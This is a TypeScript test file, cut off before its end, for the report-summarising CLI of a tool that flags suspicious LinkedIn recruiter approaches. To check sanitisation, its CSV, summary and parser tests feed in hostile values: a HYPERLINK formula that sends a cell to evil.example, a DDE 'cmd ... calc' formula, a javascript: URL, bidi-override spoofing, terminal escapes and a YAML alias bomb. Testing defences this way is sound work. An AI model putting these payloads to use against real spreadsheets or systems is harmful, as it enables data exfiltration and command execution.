// @vitest-environment node
import { spawnSync } from 'node:child_process';
import { chmodSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { parse } from 'yaml';
import {
  entitiesYaml,
  jsonValues,
  listedProfiles,
  parseSkipList,
  readEntitiesFile,
  readReports,
  readReportSources,
  renderSummary,
  REPORT_FILE_MAX_BYTES,
  reportedEntities,
  summaryCsv,
  summaryJson,
  tallyReports,
  type EntityOptions,
  type Taken,
} from '../../../src/cli/reports';
import { compile } from '../../../src/engine/compile';
import type { Approach, Level } from '../../../src/engine/types';
import { buildPack } from '../../../src/pack/build';
import { layerPacks } from '../../../src/pack/layer';
import { loadPack } from '../../../src/pack/load';
import { composeReport } from '../../../src/report/compose';
import { baseline, baselinePack, REPO } from '../engine/helpers';

vi.setConfig({ testTimeout: 30_000 });

const BASELINE_FILE = resolve(REPO, 'rules/baseline.pack.json');
const baselineListed = () => listedProfiles([{ name: BASELINE_FILE, json: readFileSync(BASELINE_FILE, 'utf8') }], () => {});
const noneTaken = (): Taken => ({ ids: new Set(), slugs: new Set() });

const RECRUITER = 'https://www.linkedin.com/in/ACoAAB1x2y3z4w5v6u7t8s9r0q/';
const TEST_PERSONA = 'https://www.linkedin.com/in/approach-guard-test-persona/';

const approach = (sender: Approach['sender'], text: string, surface: Approach['surface'] = 'message'): Approach => ({
  id: 'a',
  site: 'linkedin',
  surface,
  sender,
  messages: [{ text }],
});

let uuid = 0;
/** A report as the extension composes and sends it, scored with the built-in pack. */
function report(sender: Approach['sender'], text: string, at: string, surface: Approach['surface'] = 'message', note?: string): string {
  const a = approach(sender, text, surface);
  const { body } = composeReport(
    { approach: a, verdict: baseline().score(a), extensionVersion: '0.2.0', ...(note ? { note } : {}) },
    { now: () => Date.parse(at), randomUUID: () => `00000000-0000-4000-8000-${String(++uuid).padStart(12, '0')}` },
  );
  return body;
}
const line = (body: string) => JSON.stringify(JSON.parse(body));
const keyOf = (body: string): string => JSON.parse(body).idempotencyKey;

const PAID = 'We pay a generous fee for short reports with non-public insight. Can we move to WhatsApp?';
const TRIP = 'Our client will cover your flights and hotel for a visit to Beijing, all expenses paid.';
const HELLO = 'Hello, a quick question for you.';

describe('reading received reports', () => {
  it('reads one pretty-printed body, JSON lines, bodies appended and arrays, each report once', () => {
    const a = report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-11-02T09:00:00Z', 'inmail');
    const b = report({ name: 'Amy Chen', profileUrl: RECRUITER.replace('www.', 'uk.').toLowerCase() + '?trk=x' }, TRIP, '2026-11-20T09:00:00Z');
    const c = report({ name: 'Bo Li' }, TRIP, '2026-11-10T09:00:00Z');
    const sources = [
      { name: 'one.json', text: a },
      { name: 'lines.jsonl', text: `${line(b)}\n${line(c)}\n` },
      // The same body delivered again (a retry after a lost answer), and an array holding it.
      { name: 'appended.json', text: `${a}\n${a}` },
      { name: 'array.json', text: `[${b}]` },
    ];
    const read = readReports(sources);
    expect(read.problems).toEqual([]);
    expect(read.reports.map((r) => r.where)).toEqual(['one.json:1', 'lines.jsonl:1', 'lines.jsonl:2']);
    expect(read.repeats).toBe(3);
    const tally = tallyReports(read, baselineListed());
    expect(tally).toMatchObject({ reports: 3, repeats: 3, anonymous: 0, first: '2026-11-02T09:00:00.000Z', last: '2026-11-20T09:00:00.000Z' });
    // The two addresses are one person, as the extension keys senders; the earliest of equally common forms is shown.
    expect(tally.people.map((p) => [p.profileUrl, p.names, p.reports])).toEqual([
      [RECRUITER, ['Amy Chen'], 2],
      [undefined, ['Bo Li'], 1],
    ]);
    const amy = tally.people[0]!;
    expect(amy.surfaces).toEqual([['message', 1], ['inmail', 1]]);
    expect(amy.indicators).toEqual(expect.arrayContaining([['paid_consultancy_or_reports', 1], ['funded_trip', 1], ['off_platform_move', 1]]));
    expect(amy.keys).toEqual([keyOf(a), keyOf(b)]);
    expect(amy.listed).toBeUndefined();
  });

  it('names each input it cannot read as a report, by file and line, and counts the rest', () => {
    const parsed = JSON.parse(report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-11-02T09:00:00Z'));
    const text = [
      'hello there',
      JSON.stringify({ ...parsed, idempotencyKey: '00000000-0000-4000-8000-aaaaaaaaaaaa', format: 'someone.else' }),
      JSON.stringify({ ...parsed, idempotencyKey: '00000000-0000-4000-8000-bbbbbbbbbbbb', schemaVersion: 2 }),
      JSON.stringify({ ...parsed, idempotencyKey: '00000000-0000-4000-8000-cccccccccccc', location: 'Hong Kong' }),
      JSON.stringify({ ...parsed, idempotencyKey: '00000000-0000-4000-8000-dddddddddddd', sender: { profileUrl: 'javascript:alert(1)' } }),
      JSON.stringify(parsed),
      JSON.stringify({ ...parsed, note: 'edited after the fact' }),
      '{"broken": }',
      // The same key in capitals is the same key.
      JSON.stringify({ ...parsed, idempotencyKey: '00000000-0000-4000-8000-eeeeeeeeeeee' }),
      JSON.stringify({ ...parsed, idempotencyKey: '00000000-0000-4000-8000-EEEEEEEEEEEE' }),
    ].join('\n');
    const read = readReports([{ name: 'in.jsonl', text }]);
    expect(read.reports.map((r) => r.where)).toEqual(['in.jsonl:6', 'in.jsonl:9']);
    expect(read.problems).toEqual([
      'in.jsonl:1: not JSON (a report is a JSON object)',
      'in.jsonl:2: not an Approach Guard report (format "someone.else", expected "approach-guard.report")',
      expect.stringMatching(/^in\.jsonl:3: schema version 2 is not one this command reads \(it reads 1\)/),
      expect.stringMatching(/^in\.jsonl:4: \(report\): Unrecognized key: "location"/),
      expect.stringMatching(/^in\.jsonl:5: sender\.profileUrl: /),
      'in.jsonl:7: the same idempotencyKey as in.jsonl:6 with other content; the first is counted',
      expect.stringMatching(/^in\.jsonl:8: not valid JSON \(/),
      'in.jsonl:10: the same idempotencyKey as in.jsonl:9 with other content; the first is counted',
    ]);
  });

  it('keeps braces inside strings out of the count, and lines right across bodies, CR line ends and byte-order marks', () => {
    expect([...jsonValues('\uFEFF{"a": "}{ \\" ]"}\n\n[1,\n2]\n{"b":\n"x"}')]).toEqual([
      { line: 1, value: { a: '}{ " ]' } },
      { line: 3, value: [1, 2] },
      { line: 5, value: { b: 'x' } },
    ]);
    expect([...jsonValues('{"a":\r1}\r\rnot json\r{"b":2}\r\n\uFEFF{"c":3}')]).toEqual([
      { line: 1, value: { a: 1 } },
      { line: 4, error: 'not JSON (a report is a JSON object)' },
      { line: 5, value: { b: 2 } },
      { line: 6, value: { c: 3 } },
    ]);
  });

  it('ends a body cut short where the next line starts a value, goes on after text that is not JSON, and stops at a second indented value that never ends', () => {
    const good = (name: string, k: number) => report({ name, profileUrl: RECRUITER }, PAID, `2026-11-0${k}T09:00:00Z`, 'message', 'Noted\\\nhere');
    const a = good('A', 1);
    // Cut inside its excerpts or note: lines inside a body are indented, so the next body's first line ends it.
    const cut = a.slice(0, a.lastIndexOf('"note"'));
    const lines = (t: string) => t.split('\n').length;
    const text = [cut, line(good('B', 2)), 'some log line', `   ${line(good('C', 3))}`, '   {"broken": [1', '   {"broken": [2', line(good('D', 4))].join('\n');
    const read = readReports([{ name: 'store.json', text }]);
    const at = lines(cut);
    expect(read.reports.map((r) => [r.report.sender.name, r.where])).toEqual([
      ['B', `store.json:${at + 1}`],
      ['C', `store.json:${at + 3}`],
    ]);
    expect(read.problems).toEqual([
      'store.json:1: not valid JSON (it ends before the value does)',
      `store.json:${at + 2}: not JSON (a report is a JSON object)`,
      `store.json:${at + 4}: not valid JSON (it ends before the value does)`,
      `store.json:${at + 5}: a value that never ends; the rest of the file is not read`,
    ]);
    // JSON lines with lines cut short: every whole line is read.
    const jsonl = [line(good('E', 5)), '{"a":"x","b":[1', line(good('F', 6)), '{"a":"x","b":[1', line(good('G', 7)), line(good('H', 8))].join('\n');
    const lined = readReports([{ name: 'lines.jsonl', text: jsonl }]);
    expect(lined.reports.map((r) => r.report.sender.name)).toEqual(['E', 'F', 'G', 'H']);
    expect(lined.problemCount).toBe(2);
    // However many lines open a value that never closes, reading each is quick: each ends at the next.
    const opened = [...jsonValues('[\n'.repeat(50_000))];
    expect(opened).toHaveLength(50_000);
    expect(opened.every((v, k) => v.line === k + 1 && v.error === 'not valid JSON (it ends before the value does)')).toBe(true);
    // A backslash before a line break inside a string still counts the line.
    expect([...jsonValues('{"a":"x\\\n"}\n{"b":1}\n')].map((v) => v.line)).toEqual([1, 3]);
  });

  it('names the first fifty inputs that are not reports and counts the rest, however many', () => {
    const read = readReports([{ name: 'many.json', text: `[${Array(200_000).fill('{}').join(',')}]\n${'{]\n'.repeat(1000)}` }]);
    expect(read.problemCount).toBe(201_000);
    expect(read.problems).toHaveLength(50);
    expect(read.problems[0]).toBe('many.json:1[0]: not an Approach Guard report (format missing, expected "approach-guard.report")');
  });

  it('leaves out reports from before --since whole: not counted, and not compared with later ones', () => {
    const old = report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-10-31T23:59:59Z');
    const oldEdited = JSON.stringify({ ...JSON.parse(old), note: 'changed' });
    const recent = report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-11-01T00:00:00Z');
    const read = readReports([{ name: 'x', text: [old, old, oldEdited, recent].join('\n') }], { since: '2026-11-01T00:00:00.000Z' });
    expect(read).toMatchObject({ repeats: 0, problems: [] });
    expect(read.reports.map((r) => r.report.idempotencyKey)).toEqual([keyOf(recent)]);
  });

  it('reads report files under a directory and links to files, not links to directories, and names what it cannot read', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ag-reports-'));
    const elsewhere = mkdtempSync(join(tmpdir(), 'ag-reports-elsewhere-'));
    mkdirSync(join(dir, '2026', '11'), { recursive: true });
    writeFileSync(join(dir, '2026', '11', 'a.json'), report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-11-02T09:00:00Z'));
    writeFileSync(join(dir, 'b.ndjson'), line(report({ name: 'Bo Li' }, TRIP, '2026-11-03T09:00:00Z')));
    writeFileSync(join(dir, 'readme.txt'), 'not a report');
    writeFileSync(join(elsewhere, 'c.json'), report({ name: 'Cy Ng' }, TRIP, '2026-11-04T09:00:00Z'));
    symlinkSync(join(elsewhere, 'c.json'), join(dir, 'c.json'));
    symlinkSync(dir, join(dir, 'loop'));
    symlinkSync(join(dir, 'gone.json'), join(dir, 'dangling.json'));
    const { sources, problems } = readReportSources([dir], () => '');
    expect(sources.map((s) => s.name.slice(dir.length))).toEqual(['/2026/11/a.json', '/b.ndjson', '/c.json']);
    expect(problems).toEqual([expect.stringMatching(/dangling\.json: cannot read: ENOENT/)]);
    expect(readReportSources([mkdtempSync(join(tmpdir(), 'ag-empty-'))], () => '').notes).toEqual([expect.stringMatching(/no report files \(\.json, \.jsonl or \.ndjson\) in it$/)]);
  });

  it('names a report file that is not UTF-8 rather than count it with its letters lost', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ag-reports-'));
    writeFileSync(join(dir, 'a.json'), report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-11-02T09:00:00Z'));
    writeFileSync(join(dir, 'b.json'), Buffer.from(report({ name: 'Al\u00e9ce' }, TRIP, '2026-11-03T09:00:00Z'), 'latin1'));
    const { sources, problems } = readReportSources([dir], () => '');
    expect(sources.map((s) => [s.name.slice(dir.length), s.text.includes('Al')])).toEqual([['/a.json', false], ['/b.json', false]]);
    expect(problems).toEqual([expect.stringMatching(/b\.json: cannot read: it is not UTF-8 text$/)]);
  });

  it('refuses a file or standard input larger than it reads, without reading it', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ag-reports-big-'));
    const big = join(dir, 'big.jsonl');
    writeFileSync(big, '');
    truncateSync(big, REPORT_FILE_MAX_BYTES + 1);
    const stdin = vi.fn((max: number) => (max === REPORT_FILE_MAX_BYTES ? undefined : ''));
    const { sources, problems } = readReportSources([big, '-'], stdin);
    expect(sources).toEqual([]);
    expect(problems).toEqual([`${big}: larger than the 64 MB this command reads from one file; split it`, '-: larger than the 64 MB this command reads from one file; split it']);
  });
});

describe('what a summary shows', () => {
  it('counts a person once however the address is written, with the highest level of any report', () => {
    const low = report({ name: 'Dana West', profileUrl: 'https://www.linkedin.com/in/dana-west/' }, 'I would love to hear your views.', '2026-11-01T09:00:00Z');
    const high = report({ name: 'Dana West', profileUrl: 'https://www.linkedin.com/in/dana%2Dwest?trk=1' }, PAID, '2026-11-02T09:00:00Z');
    const tally = tallyReports(readReports([{ name: 'x', text: `${low}\n${high}` }]));
    expect(tally.people).toHaveLength(1);
    const levels: Level[] = [JSON.parse(low).verdict.level, JSON.parse(high).verdict.level];
    expect(levels[0]).not.toBe('high');
    // Two forms of the same id, as common: the earlier is shown.
    expect(tally.people[0]).toMatchObject({ reports: 2, highestLevel: 'high', topScore: JSON.parse(high).verdict.score, profileUrl: 'https://www.linkedin.com/in/dana-west/', profileId: 'dana-west', unusualId: false });
    // Any LinkedIn host and port is the same member.
    const hosts = ['https://www.linkedin.com:443/in/dana-west', 'https://a.b.linkedin.com/in/Dana-West/', 'https://www.linkedin.com/IN/dana-west/'].map((url, k) => report({ name: 'Dana West', profileUrl: url }, HELLO, `2026-11-0${k + 3}T09:00:00Z`));
    expect(tallyReports(readReports([{ name: 'x', text: [low, high, ...hosts].join('\n') }])).people.map((p) => [p.kind, p.reports])).toEqual([['member', 5]]);
  });

  it('shows the form of an address most reports give, and marks a group with a look-alike form, whichever is latest', () => {
    const ascii = (k: number) => report({ name: 'Amy Chen', profileUrl: 'https://www.linkedin.com/in/amy-chen/' }, PAID, `2026-11-0${k}T09:00:00Z`);
    // One report with a Cyrillic "а" (the extension folds it to "a"), dated far ahead to try to be the latest.
    const lookalike = JSON.stringify({ ...JSON.parse(report({ name: 'Amy Chen', profileUrl: 'https://www.linkedin.com/in/%D0%B0my-chen/' }, PAID, '2026-11-05T09:00:00Z')), createdAt: '2099-01-01T00:00:00.000Z' });
    const tally = tallyReports(readReports([{ name: 'x', text: [ascii(1), ascii(2), lookalike].join('\n') }]), baselineListed());
    expect(tally.people).toHaveLength(1);
    expect(tally.people[0]).toMatchObject({ profileUrl: 'https://www.linkedin.com/in/amy-chen/', profileId: 'amy-chen', otherIds: ['аmy-chen'], unusualId: true });
    expect(renderSummary(tally, baselineListed())).toContain('also written as: аmy-chen');
    expect(reportedEntities(tally, { minReports: 1, idPrefix: 'org', flaggedBy: 'Team', source: 'Reports', skip: new Set() }, noneTaken()).left.unusual).toBe(1);
  });

  it('marks a profile a pack lists already, and shows hidden characters and backslashes from reports as escapes', () => {
    const text = [
      report({ name: 'Test Persona', profileUrl: TEST_PERSONA }, PAID, '2026-11-02T09:00:00Z'),
      report({ name: 'Amy\u202Egnp.exe \u001b[31mChen\u200B \\u{41}\u3164\u034f\ufe0f\u180f\ufff0\u0600', profileUrl: RECRUITER }, PAID, '2026-11-03T09:00:00Z', 'message', 'See \u2066attached\u2069'),
    ].join('\n');
    const listed = baselineListed();
    const tally = tallyReports(readReports([{ name: 'x', text }]), listed);
    expect(tally.people.find((p) => p.profileUrl === TEST_PERSONA)?.listed).toEqual({ pack: `approach-guard-baseline ${baselinePack().version}`, entity: 'approach-guard.test-persona' });
    const summary = renderSummary(tally, listed);
    expect(summary).toContain('already listed: approach-guard.test-persona in approach-guard-baseline');
    expect(summary).toContain('Amy\\u{202e}gnp.exe \\u{1b}[31mChen\\u{200b} \\\\u{41}\\u{3164}\\u{34f}\\u{fe0f}\\u{180f}\\u{fff0}\\u{600}');
    expect(summary).toContain('note: See \\u{2066}attached\\u{2069}');
    expect(summary).not.toMatch(/[\u001b\u200b\u202e\u2066\u3164\u034f\ufe0f]/);
    // The JSON summary holds the same text, written with escapes only.
    const json = summaryJson(tally, listed);
    expect(json).not.toMatch(/[\u001b\u200b\u202e\u2066\u3164\u034f\ufe0f]/);
    expect(JSON.parse(json).people.find((p: { profileUrl: string }) => p.profileUrl === RECRUITER).names).toEqual(['Amy\u202Egnp.exe \u001b[31mChen\u200B \\u{41}\u3164\u034f\ufe0f\u180f\ufff0\u0600']);
    // Nor do they reach a pack: an entry's name is what shows, spaces where they were.
    const entry = reportedEntities(tally, { minReports: 1, idPrefix: 'org', flaggedBy: 'Team', source: 'Reports', skip: new Set() }, noneTaken()).entries[0]!;
    expect(entry.entity.name).toBe('Amy gnp.exe [31mChen \\u{41}');
  });

  it('writes a CSV a spreadsheet opens as text: every cell quoted, formulas disarmed, hidden characters escaped', () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    const text = [
      report({ name: 'Test Persona', profileUrl: TEST_PERSONA }, PAID, '2026-11-02T09:00:00Z'),
      report({ name: formula, headline: '@SUM(1+1)', profileUrl: RECRUITER }, PAID, '2026-11-03T09:00:00Z', 'inmail', 'First line, "quoted"\nsecond line'),
      report({ name: '\uff1dcmd|\' /C calc\'!A0', profileUrl: RECRUITER }, TRIP, '2026-11-04T09:00:00Z', 'message', '-2+3 \u202eevil'),
    ].join('\n');
    const listed = baselineListed();
    const tally = tallyReports(readReports([{ name: 'x', text }]), listed);
    const csv = summaryCsv(tally);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).not.toMatch(/\u202e/);

    // Read back as RFC 4180 says: a quoted cell may hold commas, doubled quotes and line breaks.
    const rows: string[][] = [[]];
    let cell = '';
    const endCell = () => {
      rows.at(-1)!.push(cell);
      cell = '';
    };
    for (let i = 0, quoted = false; i < csv.length; i++) {
      const c = csv[i]!;
      if (quoted && c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = !quoted;
      else if (quoted) cell += c;
      else if (c === ',') endCell();
      else if (c === '\r' && csv[i + 1] === '\n') {
        endCell();
        rows.push([]);
        i++;
      } else cell += c;
    }
    rows.pop();
    const [header, ...people] = rows;
    expect(people).toHaveLength(2);
    for (const row of people) expect(row).toHaveLength(header!.length);
    const at = (row: string[], column: string) => row[header!.indexOf(column)];
    const amy = people.find((row) => at(row, 'profile_url') === RECRUITER)!;
    // A cell that would start a formula starts with an apostrophe; the text is otherwise as sent.
    expect([at(amy, 'name'), at(amy, 'other_names')].sort()).toEqual([`'${formula}`, "'\uff1dcmd|' /C calc'!A0"].sort());
    expect(at(amy, 'headline')).toBe("'@SUM(1+1)");
    // One note a line; a note's own line break, like any hidden character, shown as an escape.
    expect(at(amy, 'notes')).toBe("'-2+3 \\u{202e}evil\nFirst line, \"quoted\"\\u{a}second line");
    expect(at(amy, 'surfaces')).toBe(tally.people.find((p) => p.profileUrl === RECRUITER)!.surfaces.map(([s, n]) => `${s}: ${n}`).join('\n'));
    expect(at(amy, 'surfaces')!.split('\n').sort()).toEqual(['inmail: 1', 'message: 1']);
    expect(at(amy, 'reports')).toBe('2');
    expect(at(amy, 'report_keys')!.split('\n')).toEqual(tally.people.find((p) => p.profileUrl === RECRUITER)!.keys);
    expect(at(amy, 'listed_in_pack')).toBe('');
    const persona = people.find((row) => at(row, 'profile_url') === TEST_PERSONA)!;
    expect([at(persona, 'listed_in_pack'), at(persona, 'listed_entity')]).toEqual([`approach-guard-baseline ${baselinePack().version}`, 'approach-guard.test-persona']);
    expect(at(persona, 'check_id_by_hand')).toBe('no');
  });

  it('says a profile id with letters other than plain Latin ones may imitate another, and does not list it', () => {
    // A Cyrillic "а": the extension folds it to "a", so listed it would flag the real amy-chen.
    const text = report({ name: 'Amy Chen', profileUrl: 'https://www.linkedin.com/in/%D0%B0my-chen/' }, PAID, '2026-11-02T09:00:00Z');
    const tally = tallyReports(readReports([{ name: 'x', text }]), baselineListed());
    expect(tally.people[0]).toMatchObject({ profileId: 'аmy-chen', unusualId: true });
    expect(renderSummary(tally, baselineListed())).toContain('(id: аmy-chen)');
    const { entries, left } = reportedEntities(tally, { minReports: 1, idPrefix: 'org', flaggedBy: 'Team', source: 'Reports', skip: new Set() }, noneTaken());
    expect(entries).toEqual([]);
    expect(left.unusual).toBe(1);
  });
});

describe('flagged-profile entries from reports', () => {
  const options: EntityOptions = { minReports: 1, idPrefix: 'org.reported', flaggedBy: 'Parliamentary Security Department', source: 'Reports from users of Approach Guard', skip: new Set() };

  it('writes entries a pack builds, which then flag the reported profile in a new message', () => {
    const first = report({ name: 'Amy Chen', profileUrl: RECRUITER, headline: 'Partner, Global Talent' }, PAID, '2026-11-02T09:00:00Z', 'inmail');
    const second = report({ name: 'Amy Chen', profileUrl: RECRUITER }, TRIP, '2026-11-20T09:00:00Z');
    const text = [first, second, report({ name: 'Test Persona', profileUrl: TEST_PERSONA }, PAID, '2026-11-03T09:00:00Z'), report({ name: 'Bo Li' }, TRIP, '2026-11-04T09:00:00Z')].join('\n');
    const listed = baselineListed();
    const tally = tallyReports(readReports([{ name: 'x', text }]), listed);
    const { entries, left } = reportedEntities(tally, options, noneTaken());
    expect(left).toMatchObject({ listed: 1, noLink: 1, fewer: 0 });
    expect(entries.map((e) => e.entity)).toEqual([
      {
        id: 'org.reported.acoaab1x2y3z4w5v6u7t8s9r0q',
        name: 'Amy Chen',
        type: 'persona',
        profileUrls: [RECRUITER],
        matchInText: false,
        claimedRole: 'Partner, Global Talent',
        flaggedBy: 'Parliamentary Security Department',
        source: 'Reports from users of Approach Guard',
        confidence: 'user reports',
        notes: expect.stringMatching(/^2 reports, 2026-11-02 to 2026-11-20; highest level high/),
      },
    ]);

    // The file goes into an organisation pack's sources as it is; the reports' keys stay in its comments.
    const dir = mkdtempSync(join(tmpdir(), 'ag-org-'));
    writeFileSync(join(dir, 'pack.yaml'), 'format: 1\nid: org.security-team\nname: Security team pack\nversion: 2026.12.1\npublisher: Security team\npublished: 2026-12-01\n');
    const yaml = entitiesYaml(entries, undefined, { today: '2026-12-01', minReports: 1, packs: listed.packs })!;
    expect(yaml).toContain(`# 2 reports, 2026-11-02 to 2026-11-20: ${keyOf(first)}, ${keyOf(second)}`);
    writeFileSync(join(dir, 'reported.yaml'), yaml);
    const built = buildPack(dir);
    expect(built.problems).toEqual([]);
    expect(built.json).not.toContain(keyOf(first));
    const org = loadPack(JSON.parse(built.json!)).pack;
    const layered = compile(layerPacks(baselinePack(), [org]).pack);
    const fresh = approach({ name: 'Amy Chen', profileUrl: 'https://www.linkedin.com/in/ACoAAB1x2y3z4w5v6u7t8s9r0q?miniProfileUrn=x' }, HELLO);
    const verdict = layered.score(fresh);
    expect(verdict.hits.map((h) => h.indicator)).toContain('known_flagged_entity');
    expect(['medium', 'high']).toContain(verdict.level);
    expect(baseline().score(fresh).level).toBe('none');
  });

  it('writes names a pack builds, whatever a sender calls themselves: words with no letter or digit dropped, an entry the engine cannot read left out and named', () => {
    const people: Array<[string, string]> = [
      ['jane-doe', 'Jane Doe \u{1F31F}'],
      ['li-wei', 'Li Wei \u2013 Recruiter'],
      ['stars', '\u{1F31F}\u{1F31F} \u2605'],
      // Twelve hyphenated words: more ways to match than the engine expands.
      ['hyphens', 'A-b C-d E-f G-h I-j K-l M-n O-p Q-r S-t U-v W-x'],
    ];
    const text = people.map(([id, name], k) => report({ name, profileUrl: `https://www.linkedin.com/in/${id}/` }, PAID, `2026-11-0${k + 2}T09:00:00Z`)).join('\n');
    const listed = baselineListed();
    const { entries, left, unreadable } = reportedEntities(tallyReports(readReports([{ name: 'x', text }]), listed), options, noneTaken());
    expect(Object.fromEntries(entries.map((e) => [e.entity.id, e.entity.name]))).toEqual({
      'org.reported.jane-doe': 'Jane Doe',
      'org.reported.li-wei': 'Li Wei Recruiter',
      'org.reported.stars': 'LinkedIn member stars',
    });
    expect(left.unreadable).toBe(1);
    expect(unreadable).toEqual([{ profileUrl: 'https://www.linkedin.com/in/hyphens/', problem: expect.stringContaining('expands to more than') }]);

    const dir = mkdtempSync(join(tmpdir(), 'ag-org-'));
    writeFileSync(join(dir, 'pack.yaml'), 'format: 1\nid: org.security-team\nname: Security team pack\nversion: 2026.12.1\npublisher: Security team\npublished: 2026-12-01\n');
    writeFileSync(join(dir, 'reported.yaml'), entitiesYaml(entries, undefined, { today: '2026-12-01', minReports: 1, packs: listed.packs })!);
    expect(buildPack(dir).problems).toEqual([]);
  });

  it('leaves out people reported fewer times than asked, skipped, or with an address too long for a pack', () => {
    const people = ['amy-chen', 'bo-li', 'cy-ng', `x${'a'.repeat(480)}`].map((id) => `https://www.linkedin.com/in/${id}/`);
    const text = [
      report({ name: 'Amy Chen', profileUrl: people[0] }, PAID, '2026-11-02T09:00:00Z'),
      report({ name: 'Amy Chen', profileUrl: people[0] }, TRIP, '2026-11-05T09:00:00Z'),
      report({ name: 'Bo Li', profileUrl: people[1] }, PAID, '2026-11-02T09:00:00Z'),
      report({ name: 'Cy Ng', profileUrl: people[2] }, PAID, '2026-11-02T09:00:00Z'),
      report({ name: 'Cy Ng', profileUrl: people[2] }, PAID, '2026-11-03T09:00:00Z'),
      report({ name: 'Long', profileUrl: people[3] }, PAID, '2026-11-02T09:00:00Z'),
      report({ name: 'Long', profileUrl: people[3] }, PAID, '2026-11-03T09:00:00Z'),
    ].join('\n');
    const tally = tallyReports(readReports([{ name: 'x', text }]), baselineListed());
    const skip = parseSkipList(`# reviewed 2026-11-30\n${people[2]!.replace('cy-ng', 'CY-NG')}  # a colleague\n\n`, 'skip.txt');
    const { entries, left } = reportedEntities(tally, { ...options, minReports: 2, skip }, noneTaken());
    expect(entries.map((e) => e.entity.id)).toEqual(['org.reported.amy-chen']);
    expect(left).toMatchObject({ fewer: 1, skipped: 1, tooLong: 1 });
    expect(() => parseSkipList(`${people[0]}\nhttps://example.org/in/x\n`, 'skip.txt')).toThrow('skip.txt:2: not a LinkedIn profile address');
  });

  it('cuts long text for a pack between characters, never inside one', () => {
    // Names long enough to fill the notes, each ending in an emoji (two UTF-16 units).
    const names = Array.from({ length: 12 }, (_, k) => `${'N'.repeat(185 + k)}\u{1F600}`);
    const text = names.map((name, k) => report({ name, profileUrl: RECRUITER }, PAID, `2026-11-${String(k + 1).padStart(2, '0')}T09:00:00Z`)).join('\n');
    const { entries } = reportedEntities(tallyReports(readReports([{ name: 'x', text }]), baselineListed()), options, noneTaken());
    const notes = entries[0]!.entity.notes!;
    expect(notes.length).toBeLessThanOrEqual(2000);
    expect(notes).not.toMatch(/[\ud800-\udbff]$/);
    expect(notes.length).toBeGreaterThan(1990);
  });

  it('keeps ids stable and unique: an id another profile holds gets a digest of this one', () => {
    const text = ['amy.chen', 'amy-chen'].map((id, k) => report({ name: 'Amy Chen', profileUrl: `https://www.linkedin.com/in/${id}/` }, PAID, `2026-11-0${k + 2}T09:00:00Z`)).join('\n');
    const tally = tallyReports(readReports([{ name: 'x', text }]), baselineListed());
    const byProfile = () => Object.fromEntries(reportedEntities(tally, options, noneTaken()).entries.map((e) => [e.entity.profileUrls![0], e.entity.id]));
    // The most recently reported comes first and keeps the plain id; the other gets a digest.
    const ids = byProfile();
    expect(ids).toEqual({
      'https://www.linkedin.com/in/amy-chen/': 'org.reported.amy-chen',
      'https://www.linkedin.com/in/amy.chen/': expect.stringMatching(/^org\.reported\.amy-chen-[0-9a-f]{8}$/),
    });
    // The same again gives the same ids, and one a pack holds already is not given out again.
    expect(byProfile()).toEqual(ids);
    const taken = { ids: new Set(['org.reported.amy-chen']), slugs: new Set<string>() };
    expect(reportedEntities(tally, options, taken).entries.map((e) => e.entity.id)).toEqual([expect.stringMatching(/-[0-9a-f]{8}$/), expect.stringMatching(/-[0-9a-f]{8}$/)]);
  });

  it('adds to an entities file, keeping its entries and comments as they are, and refuses any other file', () => {
    const listed = baselineListed();
    const firstRun = tallyReports(readReports([{ name: 'x', text: report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-11-02T09:00:00Z') }]), listed);
    const written = entitiesYaml(reportedEntities(firstRun, options, noneTaken()).entries, undefined, { today: '2026-12-01', minReports: 1, packs: listed.packs })!;
    // The reviewer corrects the name and says why.
    const reviewed = written.replace('name: Amy Chen', '# checked with the member of staff\n    name: Amy Chen (BR-YR)');
    const file = readEntitiesFile(reviewed, 'reported.yaml');
    const laterText = [report({ name: 'Amy Chen', profileUrl: RECRUITER }, TRIP, '2026-11-20T09:00:00Z'), report({ name: 'Bo Li', profileUrl: 'https://www.linkedin.com/in/bo-li/' }, PAID, '2026-11-21T09:00:00Z')].join('\n');
    const later = tallyReports(readReports([{ name: 'y', text: laterText }]), listed);
    const { entries, left } = reportedEntities(later, options, { ids: new Set(file.ids), slugs: new Set(file.slugs) });
    expect(left.inFile).toBe(1);
    const merged = entitiesYaml(entries, file, { today: '2026-12-02', minReports: 1, packs: listed.packs })!;
    expect(merged.startsWith(reviewed)).toBe(true);
    expect(parse(merged).entities.map((e: { id: string; name: string }) => [e.id, e.name])).toEqual([
      ['org.reported.acoaab1x2y3z4w5v6u7t8s9r0q', 'Amy Chen (BR-YR)'],
      ['org.reported.bo-li', 'Bo Li'],
    ]);
    // Nothing new: nothing to write.
    expect(entitiesYaml([], readEntitiesFile(merged, 'reported.yaml'), { today: '2026-12-03', minReports: 1, packs: listed.packs })).toBeUndefined();
    for (const [other, why] of [
      ['rules:\n  - id: x\n', /holds "rules", not "entities" alone/],
      ['entities: 3\n', /"entities" is not a list/],
      ['entities: [\n', /not YAML/],
      [`a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nentities: [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\n`, /holds "a", "b", "entities"/],
      [`entities: &e [{ id: x }]\n`.replace('[{ id: x }]', '[' + Array(120).fill('*e').join(', ') + ']').replace('&e ', '') , /not YAML|cannot be read as data/],
    ] as const) {
      expect(() => readEntitiesFile(other, 'other.yaml')).toThrow(why);
    }
  });

